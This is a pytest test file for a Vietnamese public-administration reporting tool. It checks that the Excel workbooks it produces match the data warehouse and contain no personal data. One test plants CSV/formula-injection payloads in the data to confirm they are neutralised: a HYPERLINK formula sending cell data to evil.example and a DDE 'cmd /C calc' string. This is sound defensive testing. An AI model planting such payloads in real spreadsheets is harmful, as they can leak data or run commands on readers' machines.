"""The Excel workbook officials hand in (cchc_etl.reports), built from a real warehouse (the
session's sample warehouse, Jan–Feb 2024, copied) and read back with openpyxl.

- Biểu 06, 06a and 06b reconcile with marts.period_report for every unit, department and the city
  (month) and with the RPT_* indicators of the quarter and year to date (the half year to date
  equals them), under the form's convention (withdrawn and rejected inside (9), awaiting a
  supplement inside (12)); the row of column numbers and the merged headers are there.
- The service index ranks sở/ngành, quận/huyện, xã/phường and other units separately; the changes
  against the previous month match the marts; targets' statuses equal marts.target_attainment.
- The late and near-due lists hold exactly the dossiers the warehouse says and no personal data
  (no PII column, no value equal to a clear or hashed personal value); no cell can be read as a
  formula, even when a unit or procedure name is one; an incomplete period says
  "lũy kế đến hết tháng 02/2024" on every sheet.
- ``cchc-etl report`` writes next to the warehouse, replacing files by rename, and refuses what it
  cannot do with one line.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import hashlib
import io
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import duckdb
import openpyxl
import pytest

from cchc_etl import cli
from cchc_etl.reports.data import ReportOptions
from cchc_etl.reports.output import build_reports, file_name
from cchc_etl.reports.vn_format import COUNT_FORMAT, DATE_FORMAT, fmt_dec_vi, fmt_int_vi, fmt_pct_vi, safe_text
from cchc_etl.sample import IGATE_HEADERS
from cchc_etl.warehouse import connect

VERSION = "vn-2025.1"
CITY = "HCM"
FEB, JAN = dt.date(2024, 2, 1), dt.date(2024, 1, 1)
FORM_SHEETS = ("Biểu 06", "06a", "06b")
RPT = ("carried_over", "received", "received_direct", "received_online", "received_postal", "resolved_early",
       "resolved_on_time", "resolved_late", "withdrawn_rejected", "pending_within", "pending_overdue")
CODE = re.compile(r"\(([^()]+)\)$")
PII_WORDS = ("họ tên", "người nộp", "cmnd", "cccd", "định danh", "điện thoại", "email", "thư điện tử", "địa chỉ",
             "applicant", "mã số thuế")


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def wh(sample_warehouse, tmp_path_factory) -> Path:
    """A copy of the session's sample warehouse (reports are written next to it)."""
    path = tmp_path_factory.mktemp("reports_wh") / "warehouse.duckdb"
    shutil.copyfile(sample_warehouse, path)
    return path


@pytest.fixture(scope="module")
def built(wh) -> dict:
    """The workbooks the tests read: February for the city and every department, the quarter and
    half year to date for the city; file paths by (period, unit)."""
    out: dict = {}
    runs = [build_reports(wh, "2024-02", version=VERSION)]
    runs += [build_reports(wh, label, version=VERSION, units=[CITY]) for label in ("2024-Q1", "2024-H1")]
    for run in runs:
        for f in run.files:
            out[(run.period_label, f.stem.rsplit("_", 1)[1])] = f
    return out


class Books(dict):
    """Workbooks by (period, unit), each read back once, when a test first asks for it."""

    def __init__(self, paths: dict):
        super().__init__()
        self.paths = paths

    def __missing__(self, key):
        self[key] = openpyxl.load_workbook(self.paths[key])
        return self[key]


@pytest.fixture(scope="module")
def books(built) -> Books:
    return Books(built)


@pytest.fixture(scope="module")
def db(built, wh):
    """A read-only connection for the expected figures (opened after the builds)."""
    with connect(wh, read_only=True) as con:
        yield con


# --------------------------------------------------------------------------- reading sheets back


def form_rows(ws) -> list[tuple]:
    """(kind, stt, label, [(3)…(13)]) of a Biểu 06 sheet, from the row after (1)…(13) to Tổng cộng."""
    out = []
    for r in range(10, ws.max_row + 1):
        stt, label = ws.cell(r, 1).value, ws.cell(r, 2).value
        if label is None:
            break
        cols = [ws.cell(r, c).value for c in range(3, 14)]
        # groups: I, II, … (lĩnh vực of 06b: 1, 2, …); items: 1, 2, … (procedures of 06b: 1.1, 1.2, …)
        group = isinstance(stt, int) if ws.title == "06b" else isinstance(stt, str)
        kind = "total" if label == "Tổng cộng" else ("group" if group else "item")
        out.append((kind, stt, label, cols))
        if kind == "total":
            break
    return out


def form_total(ws) -> list[int]:
    return next(cols for kind, _, _, cols in form_rows(ws) if kind == "total")


def form_items(ws) -> dict[str, list[int]]:
    """Item rows of 06a by unit code."""
    return {CODE.search(label).group(1): cols for kind, _, label, cols in form_rows(ws) if kind == "item"}


def texts(wb) -> dict[str, list[str]]:
    return {ws.title: [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None] for ws in wb.worksheets}


def expected_columns(v: dict, awaiting_overdue: int) -> list[int]:
    """Biểu 06 columns (3)…(13) from the marts' counts, by the form's convention."""
    received = v["received_direct"] + v["received_online"] + v["received_postal"]
    assert received == v["received"]
    return [v["carried_over"] + v["received"], v["received_online"], v["received_direct"] + v["received_postal"],
            v["carried_over"],
            v["resolved_early"] + v["resolved_on_time"] + v["resolved_late"] + v["withdrawn_rejected"],
            v["resolved_early"], v["resolved_on_time"] + v["withdrawn_rejected"], v["resolved_late"],
            v["pending_within"] + v["pending_overdue"], v["pending_within"] + awaiting_overdue,
            v["pending_overdue"] - awaiting_overdue]


def period_report(db, month: dt.date) -> dict[tuple[str, str], dict]:
    cols = ", ".join(f"rpt_{c}" for c in RPT)
    rows = db.execute(f"SELECT org_unit_code, org_level, {cols} FROM marts.period_report WHERE period_start = ?", [month]).fetchall()
    return {(r[0], r[1]): dict(zip(RPT, r[2:])) for r in rows}


def rpt_values(db, ptype: str, start: dt.date) -> dict[tuple[str, str], dict]:
    rows = db.execute("SELECT org_unit_code, org_level, indicator_code, numerator FROM marts.indicator_values WHERE period_type = ? "
                      "AND period_start = ? AND methodology_version = ? AND indicator_code LIKE 'RPT_%'",
                      [ptype, start, VERSION]).fetchall()
    out: dict = {}
    for unit, level, code, n in rows:
        out.setdefault((unit, level), {})[code.removeprefix("RPT_").lower()] = int(n)
    return out


def awaiting_overdue(db, month: dt.date) -> dict[tuple[str, str], int]:
    """Open, overdue and awaiting the citizen's supplement at the month's end, per rolled-up unit."""
    rows = db.execute("""
        SELECT r.rollup_code, r.rollup_level, count(f.dossier_id)
        FROM core.org_rollup r
        LEFT JOIN core.fct_dossier_month_end f ON f.unit_code = r.member_code AND f.period_start = r.period_start
             AND f.is_pending_overdue AND f.status = 'awaiting_supplement'
        WHERE r.period_type = 'month' AND r.period_start = ?
        GROUP BY ALL""", [month]).fetchall()
    return {(u, lvl): n for u, lvl, n in rows}


# --------------------------------------------------------------------------- Biểu 06


def test_the_city_and_every_department_get_a_workbook(built, db):
    departments = {u for (u,) in db.execute("SELECT DISTINCT rollup_code FROM core.org_rollup WHERE period_type = 'month' "
                                            "AND period_start = ? AND rollup_level = 'department'", [FEB]).fetchall()}
    assert {u for (p, u) in built if p == "2024-02"} == departments | {CITY}
    assert all(path.parent.name == p and path.parent.parent.name == "reports" for (p, _), path in built.items())


def test_form06_reconciles_with_period_report_for_every_unit(books, db):
    marts = period_report(db, FEB)
    awaiting = awaiting_overdue(db, FEB)
    assert sum(awaiting.values()) > 0, "the sample has dossiers awaiting a supplement past their deadline"
    city = books[("2024-02", CITY)]
    units = form_items(city["06a"])
    unit_rows = {u: v for (u, lvl), v in marts.items() if lvl == "unit"}
    assert set(units) == set(unit_rows), "06a lists exactly the units of marts.period_report"
    for u, v in unit_rows.items():
        assert units[u] == expected_columns(v, awaiting[(u, "unit")]), u
    for sheet in FORM_SHEETS:
        assert form_total(city[sheet]) == expected_columns(marts[(CITY, "city")], awaiting[(CITY, "city")]), sheet
    departments = [u for (u, lvl) in marts if lvl == "department"]
    assert len(departments) >= 10
    for d in departments:
        wb = books[("2024-02", d)]
        want = expected_columns(marts[(d, "department")], awaiting[(d, "department")])
        for sheet in FORM_SHEETS:
            assert form_total(wb[sheet]) == want, (d, sheet)


def test_form06_rows_add_up(books):
    """Every group row is the sum of its items, the total the sum of the groups, and each row
    holds the form's identities (3) = (4)+(5)+(6) = (7)+(11), (7) = (8)+(9)+(10), (11) = (12)+(13)."""
    for key in (("2024-02", CITY), ("2024-02", "STNMT"), ("2024-Q1", CITY)):
        for sheet in FORM_SHEETS:
            rows = form_rows(books[key][sheet])
            groups, items, current = [], {}, None
            for kind, _, label, cols in rows:
                c = dict(zip(range(3, 14), cols))
                assert c[3] == c[4] + c[5] + c[6] == c[7] + c[11], (key, sheet, label)
                assert c[7] == c[8] + c[9] + c[10] and c[11] == c[12] + c[13], (key, sheet, label)
                if kind == "group":
                    current = label
                    groups.append(cols)
                    items[current] = []
                elif kind == "item":
                    items[current].append(cols)
            for (kind, _, label, cols) in rows:
                if kind == "group":
                    assert [sum(x) for x in zip(*items[label])] == cols or not items[label] and not any(cols), (key, sheet, label)
            assert [sum(x) for x in zip(*groups)] == rows[-1][3], (key, sheet)


def test_quarter_and_half_year_to_date_reconcile_with_the_marts(books, db):
    """2024-Q1 and 2024-H1 reach to February: their rows are the RPT_* values of the quarter (and
    of the year, which covers the same months) for every unit; the open dossiers are those open
    at the end of February."""
    awaiting = awaiting_overdue(db, FEB)
    for label, ptype in (("2024-Q1", "quarter"), ("2024-H1", "year")):
        marts = rpt_values(db, ptype, JAN)
        wb = books[(label, CITY)]
        units = form_items(wb["06a"])
        assert set(units) == {u for (u, lvl) in marts if lvl == "unit"}
        for u, cols in units.items():
            assert cols == expected_columns(marts[(u, "unit")], awaiting[(u, "unit")]), (label, u)
        for sheet in FORM_SHEETS:
            assert form_total(wb[sheet]) == expected_columns(marts[(CITY, "city")], awaiting[(CITY, "city")]), (label, sheet)


def test_column_numbers_and_merged_group_headers(books):
    for sheet in FORM_SHEETS:
        ws = books[("2024-02", CITY)][sheet]
        assert [ws.cell(9, c).value for c in range(1, 14)] == [f"({i})" for i in range(1, 14)]
        merged = {str(r) for r in ws.merged_cells.ranges}
        assert {"A6:A8", "B6:B8", "C6:F6", "G6:J6", "K6:M6", "C7:C8", "D7:F7", "G7:G8", "H7:H8", "I7:I8", "J7:J8",
                "K7:K8", "L7:L8", "M7:M8"} <= merged, sheet
        assert ws["C6"].value == "Số hồ sơ nhận giải quyết"
        assert ws["G6"].value == "Số hồ sơ đã giải quyết"
        assert ws["K6"].value == "Số lượng hồ sơ đang giải quyết"
        assert [ws["C7"].value, ws["D7"].value] == ["Tổng số", "Trong đó"]
        assert [ws.cell(8, c).value for c in (4, 5, 6)] == ["Trực tuyến", "Trực tiếp, dịch vụ bưu chính", "Từ kỳ trước"]
        assert [ws.cell(7, c).value for c in range(7, 14)] == ["Tổng số", "Trước hạn", "Đúng hạn", "Quá hạn", "Tổng số",
                                                              "Trong hạn", "Quá hạn"]
        assert ws["A1"].value == "Biểu số 06/VPCP/KSTT"
        values = [str(c.value) for row in ws.iter_rows(max_row=5) for c in row if c.value]
        for label in ("Đơn vị báo cáo:", "Đơn vị nhận báo cáo:", "Đơn vị tính: Số hồ sơ TTHC."):
            assert label in values, (sheet, label)
        assert "(Từ ngày 01/02/2024 đến ngày 29/02/2024)" in values
        notes = " ".join(texts(books[("2024-02", CITY)])[sheet])
        assert "(9) Theo quy ước của biểu mẫu" in notes and "(12) Theo quy ước của biểu mẫu" in notes


def test_form06_layout_and_number_formats(books):
    wb = books[("2024-02", CITY)]
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4, ws.title
        assert ws.freeze_panes, ws.title
        assert all((ws.column_dimensions[c].width or 0) >= 6 for c in "ABCDEF"), ws.title
        assert max(ws.column_dimensions[c].width or 0 for c in "ABCDEF") >= 14, ws.title
    ws = wb["Biểu 06"]
    assert ws.freeze_panes == "C10" and ws.print_title_rows == "$6:$9"
    counts = [ws.cell(r, c) for r in range(10, 12) for c in range(3, 14)]
    assert all(isinstance(c.value, int) and c.number_format == COUNT_FORMAT for c in counts)
    dates = [c for row in wb["Trễ hạn"].iter_rows() for c in row if isinstance(c.value, dt.datetime)]
    assert dates and all(c.number_format == DATE_FORMAT for c in dates)
    assert wb.properties.language == "vi-VN"


def test_incomplete_period_says_to_date_on_every_sheet(books):
    for label in ("2024-Q1", "2024-H1"):
        for sheet, values in texts(books[(label, CITY)]).items():
            assert any("lũy kế đến hết tháng 02/2024" in v for v in values), (label, sheet)
    for sheet, values in texts(books[("2024-02", CITY)]).items():
        period_lines = [v for v in values if v.startswith("Kỳ báo cáo:")]
        assert period_lines and not any("lũy kế" in v for v in period_lines), sheet
    # the marts score no half year: its service-index sheets say so and hold no score
    h1 = books[("2024-H1", CITY)]
    for sheet in ("Chỉ số phục vụ", "Chi tiết chỉ số"):
        values = texts(h1)[sheet]
        assert any("không có điểm" in v and "2024-H1" in v for v in values), sheet
        assert not any(v.endswith(" %") for v in values), sheet


# --------------------------------------------------------------------------- service index


def scorecard_rows(ws) -> list[dict]:
    """Unit rows of 'Chỉ số phục vụ' with the group header they sit under."""
    header = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "STT")
    names = [ws.cell(header, c).value for c in range(1, ws.max_column + 1)]
    out, group = [], None
    for r in range(header + 1, ws.max_row + 1):
        first = ws.cell(r, 1).value
        if isinstance(first, str) and "được xếp hạng" in first:
            group = first.split(" — ")[0]
            continue
        label = ws.cell(r, 2).value
        if not label or not CODE.search(label.replace(" — toàn thành phố", "")):
            continue
        row = dict(zip(names, [ws.cell(r, c).value for c in range(1, len(names) + 1)]))
        row["code"] = CODE.search(label.replace(" — toàn thành phố", "")).group(1)
        row["group"] = group
        out.append(row)
    return out


def expected_ranks(db, month: dt.date) -> dict[str, tuple[str, int]]:
    """Unit -> (group, rank): sở/ngành and quận/huyện on their department-level figures, others on
    their own, each group ranked on the ratio rounded to 2 decimals (ties share a rank)."""
    return {u: (grp, rank) for u, grp, rank in db.execute("""
        WITH units AS (
            SELECT unit_code, level FROM staging.stg_org_units
            QUALIFY row_number() OVER (PARTITION BY unit_code ORDER BY valid_from DESC) = 1),
        s AS (
            SELECT s.org_unit_code AS u, CASE WHEN u.level IN ('department', 'district', 'commune') THEN u.level ELSE 'other' END AS grp,
                   s.ratio
            FROM marts.scores s JOIN units u ON u.unit_code = s.org_unit_code
            WHERE s.period_type = 'month' AND s.period_start = ? AND s.group_code = 'TOTAL' AND s.methodology_version = ?
              AND s.org_level = CASE WHEN u.level IN ('department', 'district') THEN 'department' ELSE 'unit' END)
        SELECT u, grp, rank() OVER (PARTITION BY grp ORDER BY round(ratio, 2) DESC) FROM s""", [month, VERSION]).fetchall()}


def test_service_index_ranks_each_level_separately(books, db):
    rows = scorecard_rows(books[("2024-02", CITY)]["Chỉ số phục vụ"])
    expected = expected_ranks(db, FEB)
    ranked = {r["code"]: r for r in rows if r["group"]}
    assert set(ranked) == set(expected)
    groups = {"department": "Sở, ban, ngành", "district": "Quận, huyện, thị xã", "commune": "Xã, phường, thị trấn",
              "other": "Cơ quan, đơn vị khác"}
    for u, (grp, rank) in expected.items():
        assert ranked[u]["group"] == groups[grp] and ranked[u]["Xếp hạng trong nhóm"] == rank, u
    for grp in ("department", "district", "commune"):
        assert sorted(r["Xếp hạng trong nhóm"] for u, r in ranked.items() if expected[u][0] == grp)[0] == 1, grp
    # the city's own line first, unranked
    assert rows[0]["code"] == CITY and rows[0]["group"] is None and rows[0]["Xếp hạng trong nhóm"] == "—"


def test_service_index_changes_against_the_previous_month(books, db):
    rows = {r["code"]: r for r in scorecard_rows(books[("2024-02", CITY)]["Chỉ số phục vụ"])}
    jan = expected_ranks(db, JAN)
    ratios = {(u, lvl, p): ratio for u, lvl, p, ratio in db.execute(
        "SELECT org_unit_code, org_level, period_start, ratio FROM marts.scores WHERE period_type = 'month' "
        "AND group_code = 'TOTAL' AND methodology_version = ?", [VERSION]).fetchall()}
    checked = 0
    for u, r in rows.items():
        level = "city" if u == CITY else ("department" if r["group"] in ("Sở, ban, ngành", "Quận, huyện, thị xã") else "unit")
        now, before = ratios[(u, level, FEB)], ratios.get((u, level, JAN))
        assert r["Tỷ lệ điểm"] == fmt_pct_vi(now)
        if before is None:
            assert r["Thay đổi tỷ lệ (điểm %)"] == "—"
            continue
        change = round(round(now, 2) - round(before, 2), 2)
        shown = "0,00" if change == 0 else ("▲ " if change > 0 else "▼ ") + fmt_dec_vi(abs(change))
        assert r["Thay đổi tỷ lệ (điểm %)"] == shown, u
        if r["group"]:
            assert r["Hạng kỳ trước"] == jan[u][1]
            assert r["Thay đổi hạng"] == jan[u][1] - r["Xếp hạng trong nhóm"]
        checked += 1
    assert checked >= 20


# --------------------------------------------------------------------------- targets


def target_rows(ws) -> list[tuple]:
    header = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "STT")
    out = []
    for r in range(header + 1, ws.max_row + 1):
        if not isinstance(ws.cell(r, 1).value, int):
            break
        out.append((ws.cell(r, 2).value, CODE.search(ws.cell(r, 4).value).group(1), ws.cell(r, 9).value, ws.cell(r, 10).value))
    return out


def test_target_statuses_equal_target_attainment(books, db):
    marts = db.execute("SELECT indicator_code, org_unit_code, met FROM marts.target_attainment WHERE year = 2024 "
                       "AND methodology_version = ? ORDER BY indicator_code, comparator, org_level, org_unit_code", [VERSION]).fetchall()
    status = {True: "Đạt", False: "Chưa đạt", None: "Chưa đủ số liệu"}
    rows = target_rows(books[("2024-Q1", CITY)]["Chỉ tiêu"])
    assert [(i, u, s) for i, u, s, _ in rows] == [(i, u, status[m]) for i, u, m in marts]
    assert {s for _, _, s, _ in rows} == {"Đạt", "Chưa đạt", "Chưa đủ số liệu"}, "the sample has all three outcomes"
    for _, _, s, gap in rows:
        assert gap and (s != "Chưa đạt" or gap.startswith(("Còn thiếu", "Vượt mức tối đa", "Bằng mức", "Chênh lệch")))
    # a department's workbook lists the department's own targets and those of its units only
    dept = target_rows(books[("2024-02", "Q1")]["Chỉ tiêu"])
    assert dept and {u for _, u, _, _ in dept} <= {"Q1", "Q1_BN", "Q1_BT", "Q1_DK"}


def test_target_gaps_in_the_comparators_terms():
    from cchc_etl.reports.rows import target_gap

    assert target_gap({"comparator": ">=", "target_value": 98.0, "actual_value": 94.771, "met": False,
                       "indicator_unit": "%"}) == "Còn thiếu 3,23 điểm %"
    assert target_gap({"comparator": "<", "target_value": 4.0, "actual_value": 5.5, "met": False,
                       "indicator_unit": "%"}) == "Vượt mức tối đa 1,50 điểm %"
    assert target_gap({"comparator": "share_of_units", "target_value": 80.0, "actual_value": 60.0, "met": False,
                       "numerator": 3, "denominator": 5, "indicator_unit": "%"}) == "Còn thiếu 1 đơn vị đạt ngưỡng (cần 4/5)"
    assert target_gap({"comparator": "increase_pp", "target_value": 10.0, "actual_value": 7.5, "met": False,
                       "previous_value": 40.0, "indicator_unit": "%"}) == "Còn thiếu 2,50 điểm % mức tăng"
    assert target_gap({"comparator": ">=", "target_value": 90.0, "actual_value": 88.0, "met": False,
                       "indicator_unit": "điểm"}) == "Còn thiếu 2,00 điểm"
    assert target_gap({"comparator": "increase_rel", "target_value": 10.0, "actual_value": None, "met": None,
                       "previous_value": None, "indicator_unit": "%"}) == "Chưa có số liệu năm trước để so sánh"


# --------------------------------------------------------------------------- late and near-due lists


def list_section(ws, title_start: str) -> tuple[list[str], list[list]]:
    """Header and rows of the list under the section whose title starts with ``title_start``."""
    start = next(r for r in range(1, ws.max_row + 1) if str(ws.cell(r, 1).value or "").startswith(title_start))
    header = [ws.cell(start + 1, c).value for c in range(1, ws.max_column + 1)]
    rows = []
    for r in range(start + 2, ws.max_row + 1):
        if not isinstance(ws.cell(r, 1).value, int):
            break
        rows.append([ws.cell(r, c).value for c in range(1, ws.max_column + 1)])
    return header, rows


def personal_values(landing: Path, db) -> set[str]:
    """Every clear personal value of the sample's dossier files and e-mail exports, and every hash
    the warehouse holds for them."""
    values: set[str] = set()
    fields = ("applicant_name", "applicant_id", "applicant_phone")
    for path in sorted((landing / "dossiers").rglob("*.*")):
        if path.suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as fh:
                for row in csv.DictReader(fh):
                    values.update(row.get(k) or "" for k in fields)
        elif path.suffix == ".xlsx":
            wb = openpyxl.load_workbook(path, read_only=True)
            idx = None
            for row in wb.active.iter_rows(values_only=True):
                if idx is None:
                    if {IGATE_HEADERS[k] for k in fields} <= set(row):
                        idx = [row.index(IGATE_HEADERS[k]) for k in fields]
                    continue
                values.update(str(row[i]) for i in idx if i < len(row) and row[i] is not None)
            wb.close()
            assert idx is not None, path
    for path in sorted((landing / "email").rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            values.update(cell for row in csv.reader(fh) for cell in row if "@" in cell)
    for col in ("applicant_name_hash", "applicant_id_hash", "applicant_phone_hash", "applicant_email_hash",
                "applicant_address_hash"):
        values.update(v for (v,) in db.execute(f"SELECT DISTINCT {col} FROM staging.stg_dossiers WHERE {col} IS NOT NULL").fetchall())
    values.update(v for (v,) in db.execute("SELECT DISTINCT account_hash FROM staging.stg_email").fetchall())
    return {v.strip() for v in values if v and len(v.strip()) >= 3}


def test_late_list_holds_the_overdue_dossiers_and_no_personal_data(books, built, db, sample_warehouse):
    ws = books[("2024-02", CITY)]["Trễ hạn"]
    header, rows = list_section(ws, "PHỤ LỤC II")
    assert header == ["STT", "Mã hồ sơ", "Đơn vị giải quyết", "Thủ tục hành chính", "Lĩnh vực", "Ngày tiếp nhận", "Hạn xử lý",
                      "Số ngày làm việc quá hạn", "Trạng thái"]
    overdue = db.execute("""
        SELECT f.dossier_id, CAST(f.due_at AS DATE),
               (SELECT count(*) FROM core.dim_date d WHERE d.is_working_day AND d.date > CAST(f.due_at AS DATE)
                  AND d.date <= DATE '2024-02-29')
        FROM core.fct_dossier_month_end f WHERE f.period_start = ? AND f.is_pending_overdue""", [FEB]).fetchall()
    assert overdue and len(rows) == len(overdue) == period_report(db, FEB)[(CITY, "city")]["pending_overdue"]
    want = {d: (due, n) for d, due, n in overdue}
    for row in rows:
        assert (row[6].date(), row[7]) == want[row[1]], row[1]
    assert [r[7] for r in rows] == sorted((r[7] for r in rows), reverse=True), "most overdue first"
    # Phụ lục I: every unit with a late or overdue dossier, with the marts' counts
    units_header, units = list_section(ws, "PHỤ LỤC I")
    marts = {u: v for (u, lvl), v in period_report(db, FEB).items() if lvl == "unit" and (v["resolved_late"] or v["pending_overdue"])}
    assert {CODE.search(r[1]).group(1): (r[3], r[6]) for r in units} == {u: (v["resolved_late"], v["pending_overdue"])
                                                                         for u, v in marts.items()}
    for r in units:
        v = marts[CODE.search(r[1]).group(1)]
        resolved = v["resolved_early"] + v["resolved_on_time"] + v["resolved_late"]
        assert r[2] == resolved and r[4] == fmt_pct_vi(100.0 * v["resolved_late"] / resolved)
    # no personal data anywhere in any workbook
    for header_row in (header, units_header):
        assert not [h for h in header_row if h and any(w in h.lower() for w in PII_WORDS)]
    needles = personal_values(sample_warehouse.parent / "landing", db)
    assert len(needles) > 500
    for key, path in built.items():
        for sheet, values in texts(openpyxl.load_workbook(path, read_only=True)).items():
            leaked = [v for v in values if v.strip() in needles]
            assert not leaked, (key, sheet, leaked[:3])


def test_near_due_and_awaiting_lists_follow_their_windows(wh, tmp_path, db):
    lists = {}
    for days in (1, 3):
        run = build_reports(wh, "2024-02", version=VERSION, units=[CITY], out=tmp_path / f"d{days}",
                            options=ReportOptions(near_due_days=days, supplement_days=2))
        ws = openpyxl.load_workbook(run.files[0])["Sắp đến hạn"]
        lists[days] = list_section(ws, "A. HỒ SƠ ĐẾN HẠN")[1]
        waiting = list_section(ws, "B. HỒ SƠ CHỜ")[1]
        expected = db.execute(f"""
            SELECT dossier_id, n FROM (
                SELECT f.dossier_id, (SELECT count(*) FROM core.dim_date d WHERE d.is_working_day AND d.date > DATE '2024-02-29'
                                      AND d.date <= CAST(f.due_at AS DATE)) AS n
                FROM core.fct_dossier_month_end f WHERE f.period_start = ? AND f.is_open_at_end
                  AND CAST(f.due_at AS DATE) >= DATE '2024-02-29') WHERE n <= {days}""", [FEB]).fetchall()
        assert sorted((r[1], r[7]) for r in lists[days]) == sorted(expected), days
        awaiting = db.execute("""
            SELECT dossier_id FROM core.fct_dossier_month_end f WHERE period_start = ? AND is_open_at_end
               AND status = 'awaiting_supplement' AND supplement_requested_at IS NOT NULL
               AND (SELECT count(*) FROM core.dim_date d WHERE d.is_working_day AND d.date > CAST(f.supplement_requested_at AS DATE)
                    AND d.date <= DATE '2024-02-29') > 2""", [FEB]).fetchall()
        assert sorted(r[1] for r in waiting) == sorted(a for (a,) in awaiting)
    assert len(lists[3]) > len(lists[1]) > 0
    assert {r[1] for r in lists[1]} <= {r[1] for r in lists[3]}


# --------------------------------------------------------------------------- formula injection


def test_no_cell_can_be_read_as_a_formula(wh, tmp_path):
    hostile = tmp_path / "hostile.duckdb"
    shutil.copyfile(wh, hostile)
    con = duckdb.connect(str(hostile))
    try:
        con.execute("""UPDATE staging.stg_org_units SET name = '=HYPERLINK("http://evil.example/?x="&A1,"Sở Tư pháp")' """
                    "WHERE unit_code = 'STP'")
        con.execute("UPDATE staging.stg_procedures SET name = '@SUM(1+1)*cmd|'' /C calc''!A0', field_name = '+Lý lịch tư pháp' "
                    "WHERE procedure_code = '2.001417.000.00.00.H29'")
        overdue = con.execute("SELECT dossier_id FROM core.fct_dossier_month_end WHERE period_start = ? AND is_pending_overdue "
                              "AND unit_code = 'STP' LIMIT 1", [FEB]).fetchone()[0]
        con.execute("UPDATE core.fct_dossier_month_end SET dossier_id = '-2+3' WHERE dossier_id = ?", [overdue])
    finally:
        con.close()
    run = build_reports(hostile, "2024-02", version=VERSION, units=[CITY, "STP"], out=tmp_path / "out")
    seen = set()
    for path in run.files:
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
                    if isinstance(c.value, str):
                        assert not c.value.startswith(("=", "+", "-", "@")), (path.name, ws.title, c.coordinate, c.value)
                        for needle in ("'=HYPERLINK", "'@SUM", "'+Lý lịch", "'-2+3"):
                            if c.value.startswith(needle):
                                seen.add(needle)
        if path.stem.endswith("_STP"):
            assert wb["Biểu 06"]["K2"].value.startswith("'=HYPERLINK"), "the reporting unit's name is shown, as text"
    assert seen == {"'=HYPERLINK", "'@SUM", "'+Lý lịch", "'-2+3"}, "every hostile value reached a cell, neutralised"


def test_vietnamese_formatting_helpers():
    assert fmt_int_vi(1777) == "1.777" and fmt_int_vi(1234567) == "1.234.567" and fmt_int_vi(12) == "12"
    assert fmt_pct_vi(96.89) == "96,89 %" and fmt_pct_vi(96.885) == "96,89 %" and fmt_pct_vi(None) == "N/A"
    assert fmt_dec_vi(2.675) == "2,68" and fmt_dec_vi(-0.5) == "\u22120,50" and fmt_dec_vi(1234.5) == "1.234,50"
    assert safe_text("=1+1") == "'=1+1" and safe_text("\tx") == "'\tx" and safe_text("Sở Tư pháp") == "Sở Tư pháp"
    assert safe_text("a\x00b\x07c") == "abc"


# --------------------------------------------------------------------------- the command line


def run_cli(*args) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = cli.main([str(a) for a in args])
    return rc, out.getvalue(), err.getvalue()


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_cli_writes_next_to_the_warehouse_and_replaces_files_by_rename(wh, tmp_path):
    home = tmp_path / "data"
    home.mkdir()
    warehouse = home / "warehouse.duckdb"
    shutil.copyfile(wh, warehouse)
    before = sha256(warehouse)
    target = home / "reports" / "2024-Q1" / file_name("2024-Q1", CITY)
    target.parent.mkdir(parents=True)
    target.write_bytes(b"the previous report")
    old = target.open("rb")  # a reader holding the previous file
    try:
        env = {k: v for k, v in os.environ.items() if k not in ("CCHC_REPORTS_DIR", "CCHC_WAREHOUSE_URL")}
        proc = subprocess.run([sys.executable, "-m", "cchc_etl.cli", "report", "--period", "2024-Q1", "--unit", CITY, "--warehouse",
                               f"duckdb:///{warehouse.resolve().as_posix()}"], cwd=Path(__file__).resolve().parents[2],
                              env=env, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr
        assert old.read() == b"the previous report", "the old file was replaced by a rename, not rewritten in place"
    finally:
        old.close()
    assert "lũy kế đến hết tháng 02/2024" in proc.stdout and str(target.parent) in proc.stdout
    files = sorted(p.name for p in target.parent.iterdir())
    assert not [f for f in files if f.startswith(".") or f.endswith(".tmp")], files
    assert files == [file_name("2024-Q1", CITY)]
    assert openpyxl.load_workbook(target).sheetnames[0] == "Biểu 06"
    assert sha256(warehouse) == before, "the warehouse is only read"


def test_cli_refuses_what_it_cannot_do_with_one_line(wh, tmp_path):
    url = f"duckdb:///{wh.resolve().as_posix()}"
    out = tmp_path / "out"
    proc = subprocess.run([sys.executable, "-m", "cchc_etl.cli", "report", "--period", "2024-Q1", "--warehouse", url, "--out",
                           str(out), "--format", "xlsx,pdf"], cwd=Path(__file__).resolve().parents[2],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and proc.stderr.strip() == ("cchc-etl: error: định dạng không hợp lệ / unknown format: pdf "
                                                            "(xlsx, html, docx)")
    rc, _, err = run_cli("report", "--period", "2024-05", "--warehouse", url, "--out", out)
    assert rc == 1 and "2024-05" in err and "Error" not in err
    rc, _, err = run_cli("report", "--period", "2024-02", "--unit", "NO_SUCH", "--warehouse", url, "--out", out)
    assert rc == 1 and "NO_SUCH" in err and len(err.strip().splitlines()) == 1
    rc, _, err = run_cli("report", "--period", "2024-13", "--warehouse", url, "--out", out)
    assert rc == 1 and "2024-13" in err
    assert not out.exists() or not any(out.rglob("*.xlsx")), "nothing is written when the command is refused"
    # a run writing the warehouse (another process holds its lock): one line that names the way out
    busy = tmp_path / "busy.duckdb"
    shutil.copyfile(wh, busy)
    holder = subprocess.Popen([sys.executable, "-c", "import duckdb, sys, time; c = duckdb.connect(sys.argv[1]); "
                               "print('locked', flush=True); time.sleep(60)", str(busy)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
